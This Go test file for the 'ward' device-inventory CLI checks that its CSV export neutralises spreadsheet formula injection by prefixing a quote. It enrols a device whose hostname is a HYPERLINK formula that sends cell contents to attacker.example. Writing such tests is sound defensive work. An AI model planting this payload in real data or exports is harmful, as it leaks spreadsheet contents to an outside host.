package cli_test

import (
	"context"
	"encoding/csv"
	"strings"
	"testing"
	"time"

	"google.golang.org/protobuf/types/known/timestamppb"

	"github.com/wardhq/ward/collector/server/servertest"
	wardv1 "github.com/wardhq/ward/proto/ward/v1"
	"github.com/wardhq/ward/proto/ward/v1/wardv1grpc"
)

// TestExportCSVNeutralisesFormulas: a hostname chosen by whoever enrols
// a device must not reach a spreadsheet as a formula from export.
func TestExportCSVNeutralisesFormulas(t *testing.T) {
	ctx := context.Background()
	c := servertest.Start(t)
	evil := `=HYPERLINK("http://attacker.example/?"&A1,"open")`
	_, cert := c.Enroll(ctx, c.Token("staff", 1, time.Hour), &wardv1.DeviceInfo{
		Hostname: evil, Platform: "linux", OsName: "Debian GNU/Linux", OsVersion: "12", Architecture: "amd64", AgentVersion: "test", MachineId: "m1",
	})
	f := false
	facts := &wardv1.Facts{
		CollectedAt:    timestamppb.Now(),
		Os:             &wardv1.OSFacts{Collection: &wardv1.Collection{Status: wardv1.CollectionStatus_COLLECTION_STATUS_OK}, Platform: "linux", Name: "Debian GNU/Linux", Id: "debian", Version: "12"},
		DiskEncryption: &wardv1.DiskEncryptionFacts{Collection: &wardv1.Collection{Status: wardv1.CollectionStatus_COLLECTION_STATUS_OK}, Volumes: []*wardv1.Volume{{MountPoint: "/", System: true, Encrypted: &f}}},
	}
	if _, err := wardv1grpc.NewAgentServiceClient(c.Dial(&cert)).Report(ctx, &wardv1.ReportRequest{Report: &wardv1.Report{Sequence: 1, CollectedAt: timestamppb.Now(), Facts: facts}}); err != nil {
		t.Fatal(err)
	}
	out, code := run(t, "export", "--data", c.DataDir, "--format", "csv")
	if code != 0 {
		t.Fatal("export failed")
	}
	cr := csv.NewReader(strings.NewReader(out))
	cr.Comment = '#'
	recs, err := cr.ReadAll()
	if err != nil || len(recs) < 2 {
		t.Fatalf("export CSV: %v\n%s", err, out)
	}
	for _, r := range recs[1:] {
		if r[1] != "'"+evil {
			t.Errorf("hostname cell = %q, want %q", r[1], "'"+evil)
		}
	}
}
